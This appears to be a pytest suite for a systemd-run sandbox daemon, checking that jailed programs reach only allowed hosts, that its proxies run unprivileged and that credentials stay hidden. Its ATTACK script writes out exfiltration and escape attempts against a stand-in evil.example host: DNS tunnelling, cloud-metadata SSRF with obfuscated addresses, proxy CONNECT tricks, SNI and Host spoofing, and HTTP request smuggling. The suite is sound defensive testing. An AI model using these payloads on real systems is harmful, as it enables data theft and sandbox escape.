"""A network by names as systemd serves it: what the unit takes away and the drop-in of brigd(8) gives back, on this kernel; and the attacks of tests/network in short."""
import json
import os
import pathlib
import signal
import subprocess
import sys

import pytest

from support import host, internet, service

PROFILES = pathlib.Path("/etc/brig/profiles")
PUBLIC, EVIL, PRIVATE, RESOLVER = "93.184.216.34", "93.184.216.36", "10.1.2.3", "93.184.216.53"
OWN = internet.HOST_ADDRESS
NAMES = {"shop.example": PUBLIC, "evil.example": EVIL, "private.example": PRIVATE, "own.example": OWN, "metadata.example": "169.254.169.254", "alone.example": PUBLIC}
ALLOW = ["shop.example", "private.example", "own.example", "metadata.example"]

# In a network namespace: every address answers HTTP with its own, and what else comes is written down. And a resolver.
WORLD = """
import json, socket, struct, sys, threading
names = json.loads(sys.argv[1])
log = open(sys.argv[2], "a", buffering=1)
def serve(port):
    server = socket.create_server(("0.0.0.0", port))
    while True:
        client, _ = server.accept()
        threading.Thread(target=answer, args=[client, port], daemon=True).start()
def answer(client, port):
    with client:
        client.settimeout(60)
        heard = client.recv(65536)
        print("tcp", client.getsockname()[0], port, heard[:300], file=log)
        body = f"page of {client.getsockname()[0]}"
        client.sendall(f"HTTP/1.1 200 OK\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}".encode())
for port in 80, 443:
    threading.Thread(target=serve, args=[port]).start()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
    resolver.bind((sys.argv[3], 53))
    print("up", file=log)
    while True:
        data, who = resolver.recvfrom(1000)
        labels, at = [], 12
        while data[at]:
            labels.append(data[at + 1:at + 1 + data[at]].decode())
            at += 1 + data[at]
        question, name = data[12:at + 5], ".".join(labels)
        print("udp", name, data[-4:] if name not in names else "", file=log)
        known = name in names and question[-4:-2] == b"\\0\\1"
        head = data[:2] + b"\\x84" + bytes([0 if name in names else 3]) + b"\\0\\1" + (b"\\0\\1" if known else b"\\0\\0") + bytes(4)
        resolver.sendto(head + question + (b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\0\\0\\4" + socket.inet_aton(names[name]) if known else b""), who)
"""


def tries(*rows):
    """Rows of the escape matrix, where there is a service to try them with; elsewhere tests/network has them."""
    def mark(test):
        for row in rows if service.lacks() is None else ():
            test = pytest.mark.row(row)(test)
        return test
    return mark


class World:
    def __init__(self, folder):
        self.log, self.machine = folder / "world.log", internet.Machine("world")
        self.log.touch()
        addresses = " ".join(f"{one}/32" for one in {PUBLIC, EVIL, PRIVATE, RESOLVER, "169.254.169.254"})
        self.machine.script(f"""
            for one in {addresses}; do ip addr add $one dev lo; done
            ip link add up1 type veth peer name up0
            ip link set up0 netns 1
            ip addr add {internet.WORLD_ADDRESS}/30 dev up1
            ip link set up1 up""")
        subprocess.run(["sh", "-ec", f"ip link set lo up; ip link set up0 up; ip addr add {OWN}/30 dev up0; ip route add default via {internet.WORLD_ADDRESS}"], check=True)
        self.machine.start(sys.executable, "-c", WORLD, json.dumps(NAMES), self.log, RESOLVER)
        assert host.poll(lambda: "up\n" in host.read(self.log))
        self.own = subprocess.Popen([sys.executable, "-m", "http.server", "--bind", "0.0.0.0", "80"], cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def heard(self):
        return host.read(self.log)

    def close(self):
        self.own.kill()
        self.own.wait()
        self.machine.close()


@pytest.fixture(scope="module")
def world(installed, tmp_path_factory):
    """The names of the host lead to a namespace, and two profiles of the host have a network."""
    if os.path.isdir("/sys/fs/cgroup/memory"):
        pytest.skip("needs a service that starts without a drop-in: cgroup v2")
    lack = internet.lacks_veth()
    if lack:
        pytest.skip(lack)
    resolv = pathlib.Path("/etc/resolv.conf")
    before, is_link = host.read(resolv) if resolv.exists() else "", resolv.is_symlink()
    if is_link:
        pytest.skip("needs an /etc/resolv.conf of its own")
    made = World(tmp_path_factory.mktemp("world"))
    resolv.write_text(f"nameserver {RESOLVER}\n")
    PROFILES.mkdir(parents=True, exist_ok=True)
    for name, allow in (("reaches", ALLOW), ("alone", ["alone.example"])):
        (PROFILES / f"{name}.json").write_text(json.dumps({"rootfs": "basic", "policy": "python", "network": {"allow": allow, "deny": ["denied.example"]}}))
    yield made
    for name in "reaches", "alone":
        (PROFILES / f"{name}.json").unlink()
    resolv.write_text(before)
    made.close()


@pytest.fixture(scope="module")
def reaching(world):
    """The service with the drop-in of brigd(8), A NETWORK."""
    service.reload(network="PrivateNetwork=no")
    service.begin_anew()
    yield world
    service.systemctl("stop", service.UNIT)
    service.reload(network="")


PAGE = """
import json, socket, urllib.request
def page(url):
    try:
        return urllib.request.urlopen(url, timeout=60).read().decode()
    except OSError as e:
        return str(e)
"""


def test_the_unit_as_it_is_says_that_nothing_can_be_reached(world):
    service.begin_anew()
    record = service.run(service.MEMBER, PAGE + "print(page('http://shop.example/'))", "-p", "reaches")
    assert record["exit_reason"] == "exited" and "page of" not in record["stdout"], record
    assert [one["verdict"] for one in record["network"]["connections"]] == ["failed"], record["network"]
    said = service.journal("-u", service.UNIT, "-b")
    assert "PrivateNetwork=" in said and "brigd(8)" in said, said[-3000:]


def test_with_the_drop_in_a_run_reaches_what_its_profile_allows_and_the_record_says_so(reaching):
    record = service.run(service.MEMBER, PAGE + "print(page('http://shop.example/')); print(page('http://evil.example/'))", "-p", "reaches")
    lines = record["stdout"].splitlines()
    assert len(lines) == 2, f"{record}\n{service.journal('-u', service.UNIT, lines=30)}"
    assert lines[0] == f"page of {PUBLIC}" and "403" in lines[1], record
    assert [(one["name"], one["address"], one["verdict"], one["reason"]) for one in record["network"]["connections"]] == [
        ("shop.example", PUBLIC, "done", None), ("evil.example", None, "refused", "not_allowed")], record["network"]


ATTACK = PAGE + r"""
import errno, os, ssl, struct
said = {}
def told(name, call, *args):
    try:
        result = call(*args)
        said[name] = result.decode("latin-1") if isinstance(result, bytes) else result
    except OSError as e:
        said[name] = errno.errorcode.get(e.errno, str(e))
def to(address, port, data, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(60)
        sock.connect((address, port))
        sock.sendall(data)
        heard = b""
        while more := sock.recv(65536):
            heard += more
        return heard
def udp(address, port, data, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(10)
        sock.sendto(data, (address, port))
        return sock.recv(1000)
def question(name, kind):
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(one)]) + one.encode() for one in name.split(".")) + b"\0" + struct.pack("!2H", kind, 1)
def hello(name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return out.read()
def connect(target):
    return to("198.18.0.1", 3128, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode() + b"GET /stolen HTTP/1.0\r\n\r\n").split(b"\r\n")[0]
for kind in 1, 16:
    told(f"dns {kind}", lambda: udp("198.18.0.1", 53, question("stolen-data.evil.example", kind))[3] & 15)
told("dns elsewhere", udp, RESOLVER, 53, question("stolen-too.evil.example", 1))
told("library", socket.gethostbyname, "stolen-by-the-library.evil.example")
for name, address in dict(public=PUBLIC, evil=EVIL, private=PRIVATE, own=OWN, metadata="169.254.169.254").items():
    told(f"direct {name}", to, address, 80, b"GET /stolen HTTP/1.0\r\n\r\n")
    told(f"quic {name}", udp, address, 443, b"stolen")
for target in "evil.example:80", f"{PUBLIC}:80", f"{EVIL}:80", "169.254.169.254:80", "2852039166:80", "0xa9fea9fe:80", "[::ffff:169.254.169.254]:80", "127.0.0.1:80", "localhost:80", "shop.example:0", "shop.example:22", "user@shop.example:80", "shop.example@evil.example:80", "alone.example:80":
    told(f"connect {target}", connect, target)
for name in "private.example", "own.example", "metadata.example":
    told(f"name {name}", page, f"http://{name}/")
told("other SNI", to, socket.gethostbyname("shop.example"), 443, hello("evil.example"))
told("other Host", to, socket.gethostbyname("shop.example"), 80, b"GET /stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n")
told("smuggled", to, socket.gethostbyname("shop.example"), 80, b"POST / HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /stolen HTTP/1.1\r\nHost: shop.example\r\n\r\n")
told("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())
told("six", to, "::ffff:198.18.0.1", 3128, b"", socket.AF_INET6)
told("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0brig-proxy"))
print(page("http://shop.example/"))
print(json.dumps(said))
"""


@tries("G2", "G3", "G4", "G6", "G7", "G8", "G9", "G14")
def test_no_attack_of_a_program_leads_elsewhere(reaching):
    subprocess.run([sys.executable, "-c", "import socket\ntry: socket.gethostbyname('outside.evil.example')\nexcept OSError: pass"], check=True) # the controls: without a jail
    there = subprocess.run([sys.executable, "-c", PAGE + f"print(page('http://evil.example/'), page('http://{PRIVATE}/'))"], capture_output=True, text=True, check=True).stdout
    assert there == f"page of {EVIL} page of {PRIVATE}\n" and "outside.evil.example" in reaching.heard()
    known = "".join(f"{name} = {globals()[name]!r}\n" for name in ("PUBLIC", "EVIL", "PRIVATE", "RESOLVER", "OWN"))
    record = service.run(service.MEMBER, known + ATTACK, "-p", "reaches")
    assert record["exit_reason"] == "exited" and record["exit_code"] == 0, record
    page, said = record["stdout"].splitlines()
    said = json.loads(said)
    assert page == f"page of {PUBLIC}", record
    assert "stolen" not in reaching.heard(), said
    assert not [word for word in said.values() if "page of" in str(word) or "Directory listing" in str(word)], said
    assert said["dns 1"] == 3 and said["dns 16"] == 3, said
    assert {word for name, word in said.items() if name.startswith(("direct ", "quic ", "dns elsewhere"))} == {"ENETUNREACH"}, said
    assert not [word for name, word in said.items() if name.startswith("connect ") and " 40" not in word], said
    reasons = {(one["name"], one["reason"]) for one in record["network"]["connections"]}
    assert {("private.example", "not_public"), ("own.example", "own_address"), ("metadata.example", "not_public"), ("shop.example", "other_name"), ("alone.example", "not_allowed")} <= reasons, reasons


def proxies():
    return [pid for pid in service.below() if host.read(f"/proc/{pid}/comm") == "brig-proxy\n"]


def test_the_proxies_have_an_account_of_their_own_and_nothing_else(reaching):
    service.run(service.MEMBER, "pass", "-p", "reaches")
    assert host.poll(lambda: len(proxies()) == 2 and all(service.status(pid)["Seccomp"] == "2" for pid in proxies()))
    found = [service.status(pid) for pid in proxies()]
    accounts = {str(service.ids(name)[0]) for name in ("_brig-door", "_brig-keeper")} | {"0"}
    assert len(found) == 2 and len({has["Uid"] for has in found}) == 2, found
    for has in found:
        assert not set(has["Uid"].split()) & accounts and has["Groups"] == "" and has["NoNewPrivs"] == "1" and has["Seccomp"] == "2", has
        assert {has[name] for name in ("CapInh", "CapPrm", "CapEff", "CapAmb")} == {f"{0:016x}"}, has


@tries("G13")
def test_proxies_that_are_killed_leave_runs_without_a_network_until_there_are_others(reaching):
    program = PAGE + "print(page('http://shop.example/'), flush=True); input(); print(page('http://shop.example/'))\n" + """
for address in ("198.18.0.1", 3128), ("93.184.216.34", 80):
    try:
        socket.create_connection(address, 60)
        print("open")
    except OSError as e:
        print(e.strerror)
"""
    run = subprocess.Popen([service.BRIG, "run", "--timeout", "300", "-p", "reaches", "-c", program], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, **service.as_user(service.MEMBER))
    assert run.stdout.readline() == f"page of {PUBLIC}\n"
    before = proxies()
    for pid in before:
        os.kill(pid, signal.SIGKILL)
    assert host.poll(lambda: len(proxies()) == 2 and not set(proxies()) & set(before)), "others are started"
    said, _ = run.communicate("go on\n", timeout=host.HANG)
    assert said.splitlines()[1:] == ["Connection refused", "Network is unreachable"] and "refused" in said.splitlines()[0] and run.returncode == 0, said
    assert host.poll(lambda: service.run(service.MEMBER, PAGE + "print(page('http://shop.example/'))", "-p", "reaches")["stdout"] == f"page of {PUBLIC}\n")


def test_a_secret_may_be_a_credential_of_the_unit_and_without_it_its_profile_is_left_out(reaching, tmp_path):
    path, value = PROFILES / "credential.json", tmp_path / "token"
    value.write_text("value-of-the-credential\n")
    value.chmod(0o600) # of root: the service never opens it
    path.write_text(json.dumps({"rootfs": "basic", "policy": "python", "network": {"allow": ["shop.example"], "secrets": {
        "TOKEN": {"from": {"credential": "brig-token"}, "host": "shop.example", "header": "Authorization: Bearer {}"}}}}))
    show = "import os; print(os.environ['TOKEN'])"
    try:
        service.begin_anew()
        service.run(service.MEMBER, "pass", "-p", "reaches")
        said = service.journal("-u", service.UNIT, "-b")
        assert "profile credential is left out" in said and "LoadCredential=brig-token:FILE" in said, said[-3000:]
        service.reload(network=f"PrivateNetwork=no\nLoadCredential=brig-token:{value}")
        service.begin_anew()
        record = service.run(service.MEMBER, show, "-p", "credential")
        assert record["stdout"] == "brig-secret-TOKEN\n" and "value-of-the-credential" not in json.dumps(record) + service.journal("-u", service.UNIT, "-b"), record
    finally:
        path.unlink()
        service.reload(network="PrivateNetwork=no")
        service.begin_anew()
